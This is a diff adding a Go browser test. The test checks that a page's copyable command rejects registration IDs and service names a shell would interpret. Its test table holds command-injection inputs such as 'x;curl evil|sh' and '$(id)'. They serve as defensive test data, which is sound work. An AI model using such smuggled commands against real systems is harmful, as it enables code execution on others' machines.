@@ -120,6 +120,33 @@ func TestPage_TenThousandServers_FewRowsAndFastSearch(t *testing.T) {
 	b.sees("the third page", `/201–300 of 10,000/.test(document.querySelector('.pages').innerText)`)
 }
 
+// The page's dialog shows a command to copy. An ID is the registration's, and a shell
+// would run what is in it.
+func TestPage_CommandToCopy_NamesNoIDThatAShellReads(t *testing.T) {
+	server := newLarge(t, 1, 1)
+	b := newBrowser(t.Context(), t)
+	b.do("open the page", chromedp.Navigate(server.URL+"/#/"))
+	read[bool](b, `import('/ui/model.js').then((m) => { window.argument = m.argument; }), true`)
+	b.sees("the module", `Boolean(window.argument)`)
+	for _, c := range []struct{ id, others, service, want string }{
+		{`api-1`, ``, `api`, `api/api-1`},
+		{`api@1.service:4000`, ``, `api`, `api/api@1.service:4000`},
+		{`x;curl evil|sh`, ``, `api`, `be/s1`},
+		{"x\n1", ``, `api`, `be/s1`},
+		{`$(id)`, ``, `api`, `be/s1`},
+		{`x y`, ``, `api`, `be/s1`},
+		{``, ``, `api`, `be/s1`},
+		{`twice`, `{id: "twice", server: "s2"}`, `api`, `be/s1`},
+		{`s2`, `{id: "other", server: "s2"}`, `api`, `be/s1`},
+		{`api-1`, ``, `a;b`, `be/s1`},
+	} {
+		got := read[string](b, fmt.Sprintf(`(() => { const i = {id: %q, server: "s1"}; return argument(i, {name: %q, backend: "be", instances: [i, %s]}); })()`, c.id, c.service, c.others))
+		if got != c.want {
+			t.Errorf("ID %q, service %q, beside %q: got %q, want %q", c.id, c.service, c.others, got, c.want)
+		}
+	}
+}
+
 // clock notes how long an update takes: from the moment at which the browser has all of
 // it, until the page shows it and its layout is made.
 const clock = `window.took = [];
